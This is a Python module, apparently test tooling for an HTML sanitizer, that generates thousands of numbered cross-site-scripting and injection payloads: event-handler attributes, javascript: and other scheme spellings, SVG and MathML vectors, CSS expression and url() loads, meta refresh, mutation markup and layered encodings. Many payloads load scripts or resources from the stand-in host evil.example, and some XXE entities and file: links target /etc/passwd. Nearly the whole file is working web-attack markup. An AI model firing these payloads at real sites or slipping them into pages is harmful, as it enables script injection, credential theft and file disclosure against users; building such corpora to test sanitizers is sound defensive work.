"""Attacks on whoever reads a page, generated: handlers, schemes, encodings, SVG, MathML, CSS, namespaces, mutation.

Every generator combines what a person would try by hand; none is taken from a published list. The order is always the
same, chance is seeded, and each vector has a number, so that a failing one can be looked at alone.
"""

from __future__ import annotations

import itertools
import random
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass

_REMOTE = "http://evil.example/x"
_RUN = "alert(1)"

HANDLERS = (
    "onabort onafterprint onanimationend onanimationiteration onanimationstart onauxclick onbeforecopy onbeforeinput "
    "onbeforeprint onbeforetoggle onbeforeunload onbegin onblur onbounce oncanplay onchange onclick oncontextmenu oncopy "
    "oncuechange oncut ondblclick ondrag ondragstart ondrop ondurationchange onend onended onerror onfinish onfocus "
    "onfocusin onformdata onfullscreenchange ongotpointercapture onhashchange oninput oninvalid onkeydown onload "
    "onloadeddata onloadstart onmessage onmousedown onmouseenter onmousemove onmouseover onmousewheel onoffline onpageshow "
    "onpaste onpause onplay onpointerdown onpointerrawupdate onpopstate onprogress onratechange onrepeat onreset onresize "
    "onscroll onscrollend onsearch onseeked onselect onselectstart onshow onstart onstorage onsubmit ontimeupdate ontoggle "
    "ontouchstart ontransitionend onunload onvolumechange onwaiting onwheel onxyzzy"
).split()
_CARRIERS = (
    "a abbr article audio b blockquote body br button canvas center details div dl em embed fieldset figure font form h2 "
    "html iframe image img input isindex keygen li link marquee math meter nav object ol p picture pre section select "
    "small span strike summary svg table tbody td textarea time tr u ul video wbr x xss custom-element"
).split()
_SCHEMES = (
    "javascript", "vbscript", "livescript", "mocha", "jscript", "data", "file", "blob", "filesystem", "jar", "about",
    "view-source", "feed:javascript", "intent", "chrome", "resource", "ms-its", "mhtml", "ws", "x-apple",
)  # fmt: skip
_LOADING = (
    ("img", "src"), ("img", "srcset"), ("img", "lowsrc"), ("img", "dynsrc"), ("img", "longdesc"), ("img", "data-src"),
    ("iframe", "src"), ("iframe", "srcdoc"), ("embed", "src"), ("object", "data"), ("object", "codebase"),
    ("object", "classid"), ("applet", "code"), ("applet", "archive"), ("script", "src"), ("link", "href"),
    ("base", "href"), ("body", "background"), ("table", "background"), ("td", "background"), ("video", "src"),
    ("video", "poster"), ("audio", "src"), ("source", "src"), ("source", "srcset"), ("track", "src"),
    ("input", "src"), ("input", "formaction"), ("button", "formaction"), ("form", "action"), ("isindex", "action"),
    ("a", "href"), ("a", "ping"), ("area", "href"), ("area", "ping"), ("q", "cite"), ("blockquote", "cite"),
    ("del", "cite"), ("ins", "cite"), ("html", "manifest"), ("frame", "src"), ("frame", "longdesc"), ("layer", "src"),
    ("bgsound", "src"), ("portal", "src"), ("image", "src"), ("image", "href"), ("image", "xlink:href"),
    ("xml", "src"), ("head", "profile"), ("menuitem", "icon"), ("command", "icon"), ("div", "src"), ("p", "href"),
)  # fmt: skip
_VOID = frozenset("area base br embed frame hr image img input isindex keygen link source track wbr bgsound".split())
_SWALLOWING = (
    "script style textarea title xmp iframe noembed noframes noscript plaintext object video audio canvas applet map "
    "svg math select button template form frameset table dialog listing option optgroup datalist head svg:svg progress "
    "meter output fieldset"
).split()


@dataclass(frozen=True)
class Vector:
    """One attack.

    Attributes:
        number: from 0.
        kind: the generator it comes from.
        markup: the attack.
    """

    number: int
    kind: str
    markup: str

    @property
    def is_closed(self) -> bool:
        """Whether by the HTML standard text behind the attack is still the page's, because nothing in it stays open."""
        text = self.markup.lower()
        if re.search(r"<!|<\?|<plaintext|<frameset|<body|<html|<head|\0|<!--|&#x?0*;|<[a-z/][^<>]*$", text):
            return False
        for quote in "\"'`":
            if text.count(quote) % 2:
                return False
        return not any(_stays_open(tag, text) for tag in _SWALLOWING)


def _stays_open(tag: str, text: str) -> bool:
    depth = 0
    for found in re.findall(rf"<(/?){tag}[\s/>]", text):
        depth = max(0, depth - 1) if found else depth + 1
    return depth > 0


def _element(tag: str, attributes: str, inside: str = "x") -> str:
    return f"<{tag} {attributes}>" if tag in _VOID else f"<{tag} {attributes}>{inside}</{tag}>"


def _handlers(chance: random.Random) -> Iterator[str]:
    """Every handler on several elements, in the ways an attribute can be written."""
    forms: tuple[Callable[[str], str], ...] = (
        lambda name: f"{name}={_RUN}",
        lambda name: f'{name}="{_RUN}"',
        lambda name: f"{name}='{_RUN}'",
        lambda name: f"{name.upper()} = {_RUN}",
        lambda name: f"src=x/{name}={_RUN}",
        lambda name: f'alt="x"{name}="{_RUN}"',
        lambda name: f"\t{name}\t=\n{_RUN}\r",
        lambda name: f"\x0c{name}\x0c={_RUN}",
        lambda name: f'x="`" {name}="`{_RUN}`"',
        lambda name: f'"{name}="{_RUN}"',
        lambda name: f"title=\"</p><img src=x {name}='{_RUN}'>\"",
        lambda name: f'{name}="&#97;lert(1)"',
        lambda name: f'xml:{name}="{_RUN}"',
        lambda name: f'autofocus tabindex=1 {name}="{_RUN}"',
    )
    for place, name in enumerate(HANDLERS):
        for turn in range(6):
            tag = _CARRIERS[(place * 6 + turn) % len(_CARRIERS)]
            yield _element(tag, forms[(place + turn) % len(forms)](name))
    for tag in _CARRIERS:
        yield f"<{tag}/{chance.choice(HANDLERS)}={_RUN}/>"


def _spellings(scheme: str) -> Iterator[str]:
    """The ways to write a scheme that some parser reads as the plain one."""
    first, rest = scheme[0], scheme[1:]
    yield f"{scheme}:"
    yield f"{scheme.upper()}:"
    yield f" \t{scheme}:"
    yield f"\x01{scheme}:"
    yield f"{first}&Tab;{rest}&colon;"
    yield f"{first}&NewLine;{rest}:"
    yield f"{first}\n{rest}:"
    yield "".join(f"&#{ord(letter)};" for letter in scheme) + ":"
    yield "".join(f"&#x{ord(letter):x}" for letter in scheme) + "&#58;"
    yield "".join(f"&#{ord(letter):07}" for letter in scheme) + ":"
    yield f"%{ord(first):02x}{rest}:"
    yield f"{chr(ord(first) + 0xFEE0)}{rest}："
    yield f"\u200b{first}\u00ad{rest}:"
    yield f"{first}\\{rest}:"
    yield f"//{scheme}:"


def _addresses() -> Iterator[str]:
    """Schemes that run or reach out, in every spelling, wherever an address can stand."""
    bodies = (
        _RUN,
        f"//evil.example/%0a{_RUN}",
        "text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "///etc/passwd",
    )
    spelled = [spelling for scheme in _SCHEMES for spelling in _spellings(scheme)]
    for place, spelling in enumerate(spelled):
        for turn in range(2):
            tag, attribute = _LOADING[(place * 2 + turn) % len(_LOADING)]
            quote = ('"', "'", "")[place % 3]
            address = f"{spelling}{bodies[(place + turn) % len(bodies)]}"
            address = address if quote else re.sub(r"\s", "", address)
            yield _element(tag, f"{attribute}={quote}{address}{quote}")
    for (tag, attribute), address in itertools.product(
        _LOADING, (_REMOTE, "//evil.example/x", "\\\\evil.example\\x", "https:evil.example", "/\\evil.example/x")
    ):
        yield _element(tag, f'{attribute}="{address}"')


def _scripts() -> Iterator[str]:
    """Script elements, whole, broken, nested and hidden."""
    names = (
        "script",
        "SCRIPT",
        "ScRiPt",
        "script/x",
        "script\t",
        "script\n",
        "script\x0c",
        "svg:script",
        "html:script",
    )
    ends = ("</script>", "</SCRIPT >", "</script/>", "</script\n>", "</script x=y>", "", "</scr\0ipt>", "</ script>")
    for name, end in itertools.product(names, ends):
        yield f"<{name}>{_RUN}{end}"
        yield f"<{name} src={_REMOTE}.js>{end}"
    for inner in ("<script>", "</script>", "<!--<script>", "<![CDATA[", "<b>", "\0"):
        yield f"<scr{inner}ipt>{_RUN}</scr{inner}ipt>"
        yield f"<scr{inner}ipt>{_RUN}</script>"
    for open_, close in (
        ("<!--", "-->"),
        ("<!--[if IE]>", "<![endif]-->"),
        ("<![CDATA[", "]]>"),
        ("<?", "?>"),
        ("<%", "%>"),
    ):
        yield f"{open_}<script>{_RUN}</script>{close}"
        yield f"{open_}{close}<script>{_RUN}</script>"
        yield f"{open_}<script>{_RUN}</script>"
    for kind in ("module", "text/vbscript", "importmap", "speculationrules", "text/babel", "application/ld+json"):
        yield f'<script type="{kind}">{_RUN}</script>'
        yield f'<script type="{kind}" src="{_REMOTE}"></script>'


def _drawings() -> Iterator[str]:
    """SVG: scripts, animation of addresses, foreign content, references, integration points."""
    insides = [
        f"<script>{_RUN}</script>",
        f"<script href='{_REMOTE}'/>",
        f"<script xlink:href='data:,{_RUN}'></script>",
    ]
    for name in (
        "a",
        "animate",
        "set",
        "animateMotion",
        "animateTransform",
        "image",
        "use",
        "feImage",
        "mpath",
        "pattern",
    ):
        for attribute in ("href", "xlink:href", "XLINK:HREF", "x:href"):
            for address in (
                f"javascript:{_RUN}",
                _REMOTE,
                f"data:image/svg+xml,<svg onload={_RUN}>",
                "//evil.example/#a",
            ):
                insides.append(f"<{name} {attribute}='{address}'><text>x</text></{name}>")
    for name in ("animate", "set"):
        for attribute in ("href", "xlink:href", "onclick", "src", "style"):
            insides.append(
                f"<a><{name} attributeName='{attribute}' values='javascript:{_RUN}' to='javascript:{_RUN}'/></a>"
            )
    for name in ("title", "desc", "foreignObject", "metadata", "defs", "switch", "g", "style", "text", "mask"):
        insides.append(f"<{name}><img src=x onerror={_RUN}></{name}>")
        insides.append(f"<{name}><iframe src='javascript:{_RUN}'></iframe></{name}>")
        insides.append(f"<{name}><![CDATA[</{name}><script>{_RUN}</script>]]></{name}>")
    for inside in insides:
        yield f"<svg>{inside}</svg>"
        yield f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink" width="40" height="40">{inside}</svg>'
    for handler in HANDLERS[::3]:
        yield f"<svg {handler}={_RUN}><rect/></svg>"
        yield f"<svg><g {handler}='{_RUN}'/></svg>"


def _formulas() -> Iterator[str]:
    """MathML: links on anything, actions, annotations that are HTML again, elements that change the parser's mind."""
    for name in ("math", "mi", "mtext", "mrow", "maction", "mglyph", "malignmark", "annotation-xml", "semantics"):
        for attribute in ("href", "xlink:href", "definitionurl", "actiontype", "altimg", "src"):
            for address in (f"javascript:{_RUN}", _REMOTE, "statusline#http://evil.example", f"data:text/html,{_RUN}"):
                yield f"<math><{name} {attribute}='{address}'>x</{name}></math>"
    for encoding in ("text/html", "application/xhtml+xml", "MathML-Content", "image/svg+xml"):
        for inside in (f"<script>{_RUN}</script>", f"<img src=x onerror={_RUN}>", f"<svg onload={_RUN}></svg>"):
            yield f"<math><annotation-xml encoding='{encoding}'>{inside}</annotation-xml></math>"


def _styles() -> Iterator[str]:
    """CSS that runs or loads, as attribute, element and link, plain, escaped and broken by comments."""
    rules = [
        f"width:expression({_RUN})", f"w\\69 dth:e\\78pression({_RUN})", f"width:ex/**/pression({_RUN})",
        f"background:url(javascript:{_RUN})", f"background:url({_REMOTE}.png)", f"background:u\\72l({_REMOTE}.png)",
        f"background-image:image-set('{_REMOTE}' 1x)", f"-moz-binding:url({_REMOTE}#x)", f"behavior:url({_REMOTE}.htc)",
        f"cursor:url({_REMOTE}),auto", f"list-style:url('{_REMOTE}')", f"content:url(data:text/html,{_RUN})",
        f"@import '{_REMOTE}.css';", f"@im\\port url({_REMOTE}.css);", f"@font-face{{font-family:x;src:url({_REMOTE})}}",
        f"a[href^='x']{{background:url({_REMOTE})}}", f"filter:url({_REMOTE}#f)", f"mask:url({_REMOTE}#m)",
        f"border-image:-webkit-cross-fade(url({_REMOTE}),url(y))", f"--x:url({_REMOTE});background:var(--x)",
        "position:fixed;inset:0;opacity:0", f"<!-- @import '{_REMOTE}' -->", f"}}*{{background:url({_REMOTE})}}{{",
    ]  # fmt: skip
    for rule in rules:
        quoted = rule.replace('"', "&quot;")
        for tag in ("p", "div", "a", "b", "xss", "table"):
            yield f'<{tag} style="{quoted}">x</{tag}>'
        yield f"<style>{rule if '{' in rule or '@' in rule else f'*{{{rule}}}'}</style>"
        yield f"<STYLE type=text/css media=all>{rule}</STYLE >"
        yield f"<svg><style>{rule}</style></svg>"
        yield f"<style><!--</style><p style='{rule.replace(chr(39), '')}'>x</p>"
        yield f'<link rel=stylesheet href="data:text/css,{quoted}">'
        yield f"<noscript><style>{rule}</style></noscript>"
    for relation in ("stylesheet", "alternate stylesheet", "import", "prefetch", "preload", "dns-prefetch", "preconnect",
                     "modulepreload", "prerender", "icon", "manifest", "pingback"):  # fmt: skip
        yield f'<link rel="{relation}" href="{_REMOTE}">'
        yield f"<LINK REL={relation.split()[0]} HREF=//evil.example/x>"


def _documents() -> Iterator[str]:
    """What makes a document of its own or changes this one: base, meta, frames, forms, plug-ins."""
    for name in (
        "refresh",
        "Refresh",
        "set-cookie",
        "content-security-policy",
        "x-dns-prefetch-control",
        "&#114;efresh",
    ):
        for content in (
            f"0;url={_REMOTE}",
            f"0;url=javascript:{_RUN}",
            f"0; URL='data:text/html,{_RUN}'",
            "default-src *",
        ):
            yield f'<meta http-equiv="{name}" content="{content}">'
    for name in (
        "iframe",
        "frame",
        "frameset",
        "object",
        "embed",
        "applet",
        "portal",
        "fencedframe",
        "layer",
        "ilayer",
    ):
        for attribute in ("src", "data", "srcdoc", "href", "onload", "name"):
            yield _element(name, f'{attribute}="{_REMOTE}"')
            yield _element(name, f"{attribute}='<script>{_RUN}</script>'")
    for name in ("input", "button", "select", "textarea", "keygen", "output", "form", "label", "datalist", "isindex"):
        for kind in ("image", "submit", "password", "hidden", "file"):
            yield _element(name, f'type={kind} formaction="javascript:{_RUN}" src="{_REMOTE}" name=x')
    for name in (
        "dialog",
        "details",
        "marquee",
        "menu",
        "popover",
        "template",
        "slot",
        "noscript",
        "noembed",
        "noframes",
    ):
        yield f"<{name} open popover ontoggle={_RUN}><img src=x onerror={_RUN}></{name}>"
        yield f"<{name}><p title='</{name}><img src=x onerror={_RUN}>'>x</p></{name}>"


def _namespaces() -> Iterator[str]:
    """XML in HTML: prefixed elements, entities, instructions, document types, behaviours of old browsers."""
    for prefix in ("x", "html", "svg", "xhtml", "o", "v", "t", "rdf"):
        for uri in ("http://www.w3.org/1999/xhtml", "http://www.w3.org/2000/svg", "urn:schemas-microsoft-com:time", ""):
            yield f'<{prefix}:script xmlns:{prefix}="{uri}">{_RUN}</{prefix}:script>'
            yield f'<{prefix}:img xmlns:{prefix}="{uri}" src="{_REMOTE}" onerror="{_RUN}"></{prefix}:img>'
            yield f'<xml:namespace prefix="{prefix}" ns="{uri}"/><{prefix}:set attributeName="innerHTML" to="{_RUN}"/>'
    for root in ("x", "html", "svg"):
        for system in ("file:///etc/passwd", f"{_REMOTE}.dtd", "data:,x"):
            yield f'<!DOCTYPE {root} [<!ENTITY e SYSTEM "{system}">]><{root}>&e;</{root}>'
            yield f'<!DOCTYPE {root} SYSTEM "{system}"><p>&e;</p>'
            yield f'<?xml-stylesheet type="text/xsl" href="{system}"?><p>x</p>'
            yield f'<?import namespace="t" implementation="{system}"><p>x</p>'
    for name in (
        "xlink:href",
        "xml:base",
        "xmlns",
        "xmlns:xlink",
        "epub:type",
        "ev:event",
        "on:click",
        "v-on:click",
        "@click",
    ):
        for tag in ("a", "p", "img", "svg"):
            yield _element(tag, f'{name}="javascript:{_RUN}"')
            yield _element(tag, f'{name}="{_REMOTE}" href="#x"')


def _mutations(chance: random.Random) -> Iterator[str]:
    """Markup that one parser reads differently from the next, or from itself the second time."""
    raw = (
        "style",
        "title",
        "textarea",
        "xmp",
        "iframe",
        "noembed",
        "noframes",
        "noscript",
        "script",
        "plaintext",
        "listing",
    )
    hosts = (
        "svg",
        "math",
        "table",
        "select",
        "p",
        "form",
        "template",
        "ul",
        "dl",
        "a",
        "button",
        "mtext",
        "desc",
        "option",
    )
    payloads = (f"<img src=x onerror={_RUN}>", f"<svg/onload={_RUN}>", f"<iframe src=javascript:{_RUN}>")
    for host, inner, payload in itertools.product(hosts, raw, payloads):
        yield f'<{host}><{inner}><a title="</{inner}>{payload}"></a></{inner}></{host}>'
    for inner, payload in itertools.product(raw, payloads):
        yield f"<{inner}></{inner}>{payload}"
        yield f"<{inner}><!--</{inner}>{payload}-->"
        yield f"<form><math><mtext></form><form><mglyph><{inner}></math>{payload}</{inner}></form>"
        yield f"<svg></p><{inner}><a id='</{inner}>{payload}'></a></{inner}></svg>"
    for comment in (
        "<!-->",
        "<!--->",
        "<!--x--!>",
        "<!--x-- >",
        "<!x>",
        "<!",
        "<?x>",
        "</ x>",
        "</>",
        "<>",
        "<!-- -- -->",
        "<!--<!-->",
    ):
        for payload in payloads:
            yield f"{comment}{payload}"
            yield f"{comment}{payload}-->"
    pieces = ("<b>", "</b>", "<table>", "</table>", "<td>", "<select>", "</select>", "<svg>", "</svg>", "<math>", "</math>",
              "<!--", "-->", "<style>", "</style>", '"', "'", "`", ">", "<", "<a href=", "javascript:", "\0", "<p", "/>", "&lt;",
              "<![CDATA[", "]]>", "<title>", "</title>", f" onerror={_RUN} ", "<img src=x ", "<mtext>", "<template>")  # fmt: skip
    for _ in range(260):
        yield "".join(chance.choices(pieces, k=chance.randint(3, 14)))


def _encodings() -> Iterator[str]:
    """The same attack behind layers of encoding: what is text must stay text."""
    attacks = (f"<script>{_RUN}</script>", f"<img src=x onerror={_RUN}>", f'<a href="javascript:{_RUN}">x</a>')
    for attack in attacks:
        named = attack.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
        yield named
        yield named.replace("&", "&amp;")
        yield named.replace(";", "")
        yield "".join(f"&#{ord(letter)};" for letter in attack)
        yield "".join(f"&#x{ord(letter):X};" for letter in attack)
        yield "".join(f"&#{ord(letter) + 0x110000};" for letter in attack)
        yield "".join(f"%{ord(letter):02x}" for letter in attack)
        yield attack.replace("<", "+ADw-").replace(">", "+AD4-")
        yield attack.translate({ord("<"): "\uff1c", ord(">"): "\uff1e"})
        yield attack.translate({ord("<"): "\u2039", ord(">"): "\u203a"})
        yield attack.replace("<", "\x1b$B<\x1b(B")
        yield attack.replace("<", "<\x00")
        yield attack.replace("s", "\u017f").replace("i", "\u0131")
        yield "\ufeff" + attack
        yield "\u202e" + attack + "\u202c"
        yield "\\x3c" + attack[1:]
        yield "\\u003c" + attack[1:]
        yield f"<p title='{named}'>x</p>"
        yield f"<pre>{named}</pre><code>{named}</code>"


def _markdown() -> Iterator[str]:
    """Links and pictures as Markdown writes them; in a page of HTML they are text."""
    for spelling in [spelling for scheme in _SCHEMES[:8] for spelling in _spellings(scheme)]:
        target = f"{spelling}{_RUN}"
        one_line = re.sub(r"\s", "", target)
        yield f"[x]({one_line})"
        yield f"[x](<{target}>)"
        yield f"![x]({one_line} 'title')"
        yield f"[x][r]\n\n[r]: {one_line}"
        yield f"<{one_line}>"
    for target in (_REMOTE, "//evil.example/x", f"data:image/svg+xml,<svg/onload={_RUN}>", "file:///etc/passwd"):
        yield f"![x]({target})"
        yield f"[![x]({target})]({target})"
        yield f"![x][r]\n\n[r]: {target} 'onerror={_RUN}'"
        yield f'![x" onerror="{_RUN}]({target})'
        yield f'[x]({target} "\\" onmouseover=\\"{_RUN}")'
    for fence in ("```", "~~~"):
        yield f"{fence}html\n<script>{_RUN}</script>\n{fence}"
        yield f'{fence}" onclick={_RUN}\nx\n{fence}'
    yield f"`<script>{_RUN}</script>`"
    yield f"\\<script>{_RUN}</script>"
    yield f"x\n: <script>{_RUN}</script>"
    yield f"[^1]\n\n[^1]: <img src=x onerror={_RUN}>"


def vectors() -> list[Vector]:
    """Every attack once, in an order that never changes."""
    chance = random.Random(20261122)  # noqa: S311 - the same attacks every time
    kinds: tuple[tuple[str, Iterator[str]], ...] = (
        ("handlers", _handlers(chance)),
        ("addresses", _addresses()),
        ("scripts", _scripts()),
        ("svg", _drawings()),
        ("mathml", _formulas()),
        ("css", _styles()),
        ("documents", _documents()),
        ("namespaces", _namespaces()),
        ("mutations", _mutations(chance)),
        ("encodings", _encodings()),
        ("markdown", _markdown()),
    )
    found: dict[str, str] = {}
    for kind, markups in kinds:
        for markup in markups:
            found.setdefault(markup, kind)
    return [Vector(number, kind, markup) for number, (markup, kind) in enumerate(found.items())]
